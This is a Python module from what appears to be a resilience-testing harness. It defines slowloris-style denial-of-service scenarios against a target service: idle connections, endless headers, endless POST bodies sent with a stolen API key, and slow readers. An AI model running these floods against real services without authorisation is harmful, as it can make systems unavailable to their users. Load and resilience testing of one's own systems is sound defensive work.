"""Ten thousand connections from a hundred addresses: idle ones, and slow ones of each kind."""

import asyncio
import time
from collections.abc import Iterator

from attack.base import Row
from attack.crowd import Crowd, within_files
from attack.measured import struck
from attack.target import Target

HEAD = b"GET / HTTP/1.1\r\nHost: x\r\nX-A: "


def nobody(target: Target) -> Row:
    """Honest calls alone: what the machine itself makes of them."""

    def strike(target: Target) -> Iterator[str]:
        time.sleep(target.seconds)
        yield "no connections"

    return struck("nothing", target, strike)


def idle(target: Target) -> Row:
    """They come and say nothing."""
    return _crowd("idle", target)


def drops(target: Target) -> Row:
    """Heads that never end."""
    return _crowd("slow-heads", target, HEAD + b"a" * 4000, b"a")


def bodies(target: Target) -> Row:
    """Bodies that never end, by one who has a key."""
    first = (
        f"POST /api/v1/appointments HTTP/1.1\r\nHost: x\r\nX-API-Key: {target.stolen}\r\n"
        "Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n{"
    )
    return _crowd("slow-bodies", target, first.encode(), b" ")


def readers(target: Target) -> Row:
    """They ask for many pages and take none."""
    asked = f"GET /api/v1/clients?limit=200 HTTP/1.1\r\nHost: x\r\nX-API-Key: {target.stolen}\r\n"
    return _crowd("slow-readers", target, f"{asked}\r\n".encode() * 30)


def _crowd(name: str, target: Target, first: bytes = b"", drop: bytes = b"") -> Row:
    def strike(target: Target) -> Iterator[str]:
        crowd = Crowd(target.port, first, drop)
        connections = within_files(target.connections)

        async def come() -> None:
            await crowd.gather(connections)
            if drop:
                await crowd.stay(target.seconds)

        asyncio.run(come())
        try:
            yield f"{connections} connections, {crowd.failed} of them refused"
        finally:
            crowd.leave()

    return struck(name, target, strike)
